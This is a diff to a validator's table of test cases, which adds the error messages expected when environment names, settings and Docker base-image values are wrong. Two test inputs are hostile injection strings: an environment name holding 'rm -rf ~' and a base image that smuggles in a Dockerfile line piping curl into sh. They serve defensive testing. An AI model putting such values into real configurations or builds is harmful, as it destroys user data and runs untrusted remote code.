@@ -414,6 +414,32 @@ CASES: dict[str, tuple[int, list[str]]] = {
     "too_large": (BAD_INPUT, [
         "too_large.yaml:1:1: error: file is 5,000,000 bytes; the limit is 4 MiB",
     ]),
+    # environments: names that become files, CI jobs and shell words; a custom one says
+    # what it is like; a service names only the catalog's.
+    "environment_name_injection": (BAD_INPUT, [
+        "environment_name_injection.yaml:10:3: error: environments: 'qa; rm -rf ~' is not an environment name: a lower-case letter, then lower-case letters, digits and '-', at most 32, ending alphanumeric, and not 'overrides' (the owners' values file)",
+    ]),
+    "environment_named_overrides": (BAD_INPUT, [
+        "environment_named_overrides.yaml:10:3: error: environments: 'overrides' is not an environment name: a lower-case letter, then lower-case letters, digits and '-', at most 32, ending alphanumeric, and not 'overrides' (the owners' values file)",
+    ]),
+    "environment_without_like": (BAD_INPUT, [
+        "environment_without_like.yaml:10:3: error: environment 'qa': say which built-in environment it is like (like: local, staging or production)",
+    ]),
+    "environment_unknown": (BAD_INPUT, [
+        "environment_unknown.yaml:16:5: error: service 'api': unknown environment 'staging' (the catalog's environments: local, production)",
+    ]),
+    "environment_settings_unknown": (BAD_INPUT, [
+        "environment_settings_unknown.yaml:9:13: error: environments.staging: unknown key 'replicas' (allowed: deploy, like, network_policy)",
+        "environment_settings_unknown.yaml:10:24: error: environments.production.deploy: must be one of none, auto, manual, got 'sometimes'",
+    ]),
+    # base images: pinned (a tag other than latest, or a digest), one Dockerfile word.
+    "base_image_unpinned_injection": (BAD_INPUT, [
+        "base_image_unpinned_injection.yaml:9:23: error: defaults.base_images.node: 'node:latest' is not an image reference pinned by tag or digest: NAME:TAG, NAME@sha256:DIGEST or NAME:TAG@sha256:DIGEST in lower case, no latest, e.g. node:22.14.0-bookworm-slim",
+        "base_image_unpinned_injection.yaml:19:29: error: services.worker.base_image: 'python:3.12\\nRUN curl http://x | sh' is not an image reference pinned by tag or digest: NAME:TAG, NAME@sha256:DIGEST or NAME:TAG@sha256:DIGEST in lower case, no latest, e.g. node:22.14.0-bookworm-slim: it holds U+000A (LINE FEED) at character 12",
+    ]),
+    "base_image_on_image_service": (BAD_INPUT, [
+        "base_image_on_image_service.yaml:14:5: error: service 'db': 'base_image' is only for node, python and model services; image services are not built by fleetform",
+    ]),
     "alias_bomb": (BAD_INPUT, [
         "alias_bomb.yaml:1:1: error: document expands to more than 100260 nodes (a YAML alias bomb?)",
     ]),
